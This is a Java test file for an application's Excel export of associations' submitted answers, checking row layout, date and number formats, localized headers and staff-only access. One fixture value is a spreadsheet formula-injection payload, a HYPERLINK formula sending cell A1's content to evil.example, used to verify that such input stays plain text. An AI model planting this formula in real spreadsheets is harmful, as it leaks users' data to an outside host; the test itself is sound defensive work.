package fr.ctg.contribution;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import fr.ctg.CtgSpringTest;
import fr.ctg.TestLogin;
import fr.ctg.base.AccessRefusedException;
import fr.ctg.base.NotFoundException;
import fr.ctg.security.AccountService;
import fr.ctg.security.InvitationService;
import fr.ctg.security.SystemIdentity;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DateUtil;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.assertj.core.api.ThrowableAssert.ThrowingCallable;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;

/**
 * A call's answers in Excel: one row per submitted contribution, one column per question, a number question's answers
 * as numbers, a formula typed by an association kept as text; the CSV's access rules (the convention's staff).
 */
@CtgSpringTest
class ContributionXlsxTest {

    @Autowired PartnerService partners;
    @Autowired InvitationService invitations;
    @Autowired SubmissionService submissions;
    @Autowired ReviewService review;
    @Autowired ContributionFixture fixture;
    @Autowired TestLogin login;
    @Autowired AccountService accounts;

    static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1;\"clic\")";

    ContributionFixture.World c;
    SubmissionDetails familles;
    String lienContact;

    @BeforeEach
    void setUp() {
        c = fixture.create();
        String famillesContact = c.w().prefix() + "-marie@asso.test";
        lienContact = c.w().prefix() + "-karim@asso.test";
        ContributionIsolationServiceTest.SystemFixtures.contributor(partners, invitations, login, c, c.familles(),
                famillesContact);
        ContributionIsolationServiceTest.SystemFixtures.contributor(partners, invitations, login, c, c.lien(), lienContact);
        login.as(famillesContact, TestLogin.CHOSEN_PASSWORD);
        submissions.saveDraft(c.callId(), Map.of(0, FORMULA, 1, "1 250", 2, "Parents", 3, "oui"));
        familles = submissions.submit(c.callId());
        login.as(lienContact, TestLogin.CHOSEN_PASSWORD);
        submissions.saveDraft(c.callId(), Map.of(0, "Mobilité des jeunes", 1, "12,5"));
        submissions.submit(c.callId());
        login.as(c.user("referent"));
        review.review(familles.id(), ReviewStatus.TAKEN_INTO_ACCOUNT, "Repris.");
    }

    @AfterEach
    void tearDown() {
        login.logout();
    }

    private static XSSFWorkbook read(byte[] bytes) throws IOException {
        return new XSSFWorkbook(new ByteArrayInputStream(bytes));
    }

    private static List<String> texts(Row row) {
        List<String> out = new ArrayList<>();
        row.forEach(cell -> out.add(cell.getStringCellValue()));
        return out;
    }

    @Test
    void oneRowPerSubmissionAndOneColumnPerQuestion() throws IOException {
        try (XSSFWorkbook wb = read(review.answersXlsx(c.callId(), Locale.FRENCH))) {
            assertThat(wb.getProperties().getCoreProperties().getTitle())
                    .isEqualTo("Évaluation 2026 : la parole des associations");
            Sheet sheet = wb.getSheet("Réponses");
            assertThat(sheet.getPaneInformation().isFreezePane()).isTrue();
            List<String> header = new ArrayList<>(List.of("Organisation", "Référence", "Déposée le", "Suite donnée"));
            ContributionFixture.questions().forEach(q -> header.add(q.label()));
            assertThat(texts(sheet.getRow(0))).containsExactlyElementsOf(header);
            assertThat(sheet.getLastRowNum()).isEqualTo(2);
            Row row = sheet.getRow(1);
            assertThat(row.getCell(0).getStringCellValue()).startsWith("Familles rurales");
            assertThat(row.getCell(1).getStringCellValue()).isEqualTo(familles.reference());
            Cell submitted = row.getCell(2);
            assertThat(submitted.getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(DateUtil.isCellDateFormatted(submitted)).isTrue();
            assertThat(submitted.getCellStyle().getDataFormatString()).isEqualTo("dd/mm/yyyy hh:mm");
            assertThat(submitted.getLocalDateTimeCellValue()).isEqualTo(familles.submittedAt()
                    .atZone(ZoneId.of("Europe/Paris")).toLocalDateTime().withNano(0));
            assertThat(row.getCell(3).getStringCellValue()).isEqualTo("Prise en compte");
            Cell formula = row.getCell(4);
            assertThat(formula.getCellType()).as("an association's formula stays text").isEqualTo(CellType.STRING);
            assertThat(formula.getStringCellValue()).isEqualTo(FORMULA);
            Cell number = row.getCell(5);
            assertThat(number.getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(number.getNumericCellValue()).isEqualTo(1250);
            assertThat(number.getCellStyle().getDataFormatString()).isEqualTo("#,##0");
            assertThat(row.getCell(6).getStringCellValue()).isEqualTo("Parents");
            assertThat(row.getCell(7).getStringCellValue()).isEqualTo("oui");
            Row lien = sheet.getRow(2);
            assertThat(lien.getCell(0).getStringCellValue()).startsWith("Le Lien");
            assertThat(lien.getCell(3).getStringCellValue()).as("not reviewed yet").isEqualTo("Reçue");
            assertThat(lien.getCell(5).getNumericCellValue()).isEqualTo(12.5);
            assertThat(lien.getCell(5).getCellStyle().getDataFormatString()).isEqualTo("#,##0.00");
            assertThat(lien.getCell(6).getCellType()).isEqualTo(CellType.BLANK);
        }
    }

    @Test
    void headersFollowTheReadersLanguage() throws IOException {
        try (XSSFWorkbook wb = read(review.answersXlsx(c.callId(), Locale.ENGLISH))) {
            Sheet sheet = wb.getSheet("Answers");
            assertThat(sheet.getPaneInformation().isFreezePane()).isTrue();
            assertThat(texts(sheet.getRow(0))).startsWith("Organisation", "Reference", "Submitted on", "Follow-up given",
                    "Quels besoins des familles observez-vous ?");
            assertThat(sheet.getRow(1).getCell(3).getStringCellValue()).isEqualTo("Taken into account");
        }
    }

    private static void refused(ThrowingCallable call) {
        assertThatThrownBy(call).isInstanceOfAny(AccessRefusedException.class, NotFoundException.class);
    }

    @Test
    void onlyTheConventionsStaffExportIt() throws IOException {
        login.as(lienContact, TestLogin.CHOSEN_PASSWORD);
        refused(() -> review.answersXlsx(c.callId(), Locale.FRENCH));
        login.as(c.user("lecteur"));
        refused(() -> review.answersXlsx(c.callId(), Locale.FRENCH));
        ContributionFixture.World other = fixture.create();
        login.as(other.user("referent"));
        assertThatThrownBy(() -> review.answersXlsx(c.callId(), Locale.FRENCH)).as("staff of another convention")
                .isInstanceOf(NotFoundException.class);
        try (XSSFWorkbook wb = read(review.answersXlsx(other.callId(), Locale.FRENCH))) {
            assertThat(wb.getSheetAt(0).getLastRowNum()).as("none of the first convention's answers").isZero();
        }
        String stranger = c.w().prefix() + "-stranger";
        SystemIdentity.run(() -> accounts.createAccount(stranger, "Sam Stranger", null, null, TestLogin.DEMO_PASSWORD,
                false));
        login.as(stranger);
        assertThatThrownBy(() -> review.answersXlsx(c.callId(), Locale.FRENCH)).as("a non-member")
                .isInstanceOf(NotFoundException.class);
    }
}
